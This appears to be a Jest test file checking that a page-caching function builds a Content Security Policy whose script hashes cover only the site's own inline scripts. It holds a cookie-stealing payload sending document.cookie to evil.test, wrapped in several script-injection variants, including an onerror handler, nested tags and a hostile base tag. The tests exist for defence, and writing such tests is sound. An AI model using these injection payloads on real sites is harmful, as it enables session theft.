/** @jest-environment node */
import { createHash } from "node:crypto";
import { parseStyleSheet } from "@/lib/page-cache/styles/style-sheet";
import { finishPage, type FinishOptions } from "@/lib/page-cache/finish-page";
import { inlineScriptsOf } from "@/lib/security/content-security-policy";

const OWN = 'try{document.documentElement.dataset.theme="dark"}catch(e){}';
const FLIGHT = String.raw`self.__next_f.push([1,"0:\"text\"\n"])`;
const LINK = '<link rel="stylesheet" href="/_next/static/site.css" data-precedence="next"/>';
const SCRIPT = '<script src="/_next/static/a.js" async=""></script>';

const OPTIONS: FinishOptions = {
  readStyleSheet: () => parseStyleSheet(".leaf{color:green}.elsewhere{color:red}"),
  inlineScripts: [OWN],
  hosts: { mapStyleUrl: "https://tiles.example/style.json", isSecure: false },
};

const pageWith = (body: string) =>
  `<html><head>${LINK}${SCRIPT}<script>${OWN}</script></head><body><p class="leaf">1 &amp; 2 &lt; 4</p>${body}<script>${FLIGHT}</script></body></html>`;

const hashOf = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

const hashesIn = (policy: string) => policy.match(/'sha256-[^']+'/g) ?? [];

test("a page has its styles, requests its files at the end, and may run its own scripts", () => {
  const { html, policy, unknownScripts } = finishPage(pageWith(""), "/", OPTIONS);
  expect(html).toContain("<head><style>.leaf{color:green}</style><noscript>");
  expect(html).not.toContain("<script src=");
  expect(html).toContain('<p class="leaf">1 &amp; 2 &lt; 4</p>');
  expect(hashesIn(policy)).toEqual(inlineScriptsOf(html).map(hashOf));
  expect(hashesIn(policy)).toHaveLength(3);
  expect(unknownScripts).toEqual([]);
});

test("a page without stylesheets has no styles", () => {
  const { html } = finishPage(pageWith("").replace(LINK, ""), "/", OPTIONS);
  expect(html).not.toContain("<style>");
});

const INJECTED = "fetch('https://evil.test/'+document.cookie)";

test.each([
  ["a script", `<script>${INJECTED}</script>`],
  ["a script with attributes", `<script type="module" id="_R_">${INJECTED}</script>`],
  ["a script that only looks like data", `<script>self.__next_f.push([1,${INJECTED}])</script>`],
  [
    "a script that only looks like the site's loader",
    `<script>(function(d,c,s){${INJECTED}})(document,["/a.css"],["/a.js"])</script>`,
  ],
  ["a script behind one of the site's", `<script>${OWN};${INJECTED}</script>`],
  ["a script that an earlier one encloses", `<script><script>${INJECTED}</script>`],
  ["a script with a blank before its end", `<script>${INJECTED}</script ></script>`],
])("the policy does not allow %s that was injected", (_, markup) => {
  const { policy, unknownScripts } = finishPage(pageWith(markup), "/", OPTIONS);
  const clean = finishPage(pageWith(""), "/", OPTIONS);
  expect(policy).toBe(clean.policy);
  expect(unknownScripts.join()).toContain(INJECTED);
});

test.each([
  ["a handler", `<img src="x" onerror="${INJECTED}">`],
  ["a script in capitals", `<SCRIPT>${INJECTED}</SCRIPT>`],
  ["data for search engines", `<script type="application/ld+json">{"a":"${INJECTED}"}</script>`],
  ["a second end of the page", "</body></html><p>"],
  ["a stylesheet of another site", '<link rel="stylesheet" href="https://evil.test/a.css"/>'],
  ["a base", '<base href="https://evil.test/">'],
  ["dollar signs, which a replacement could take for its own", "$& $1 $` $'"],
])("the policy is the same with %s", (_, markup) => {
  const { html, policy } = finishPage(pageWith(markup), "/", OPTIONS);
  expect(policy).toBe(finishPage(pageWith(""), "/", OPTIONS).policy);
  expect(html).toContain(markup);
});

test.each([
  ["a comment that is not closed", `<!-- <script src="/_next/static/a.js" async="">`],
  ["a script that is not closed", `<script>${INJECTED}`],
  ["an attribute that is not closed", `<p title="`],
])("the policy allows nothing more with %s", (_, markup) => {
  const { policy } = finishPage(pageWith(markup), "/", OPTIONS);
  const clean = hashesIn(finishPage(pageWith(""), "/", OPTIONS).policy);
  expect(clean).toEqual(expect.arrayContaining(hashesIn(policy)));
});

test("a stylesheet that cannot be read fails loudly", () => {
  const readStyleSheet = () => {
    throw new Error("no such file");
  };
  expect(() => finishPage(pageWith(""), "/", { ...OPTIONS, readStyleSheet })).toThrow(
    "no such file",
  );
});

test.each([
  ["/auth", false],
  ["/auth/reset", false],
  ["/auth/confirm/replace", false],
  ["/authors", true],
  ["/restaurants/auth", true],
])("the policy of %s names hosts of Google's: %s", (path, names) => {
  const { policy } = finishPage(pageWith(""), path, OPTIONS);
  expect(/google|gstatic/.test(policy)).toBe(names);
});
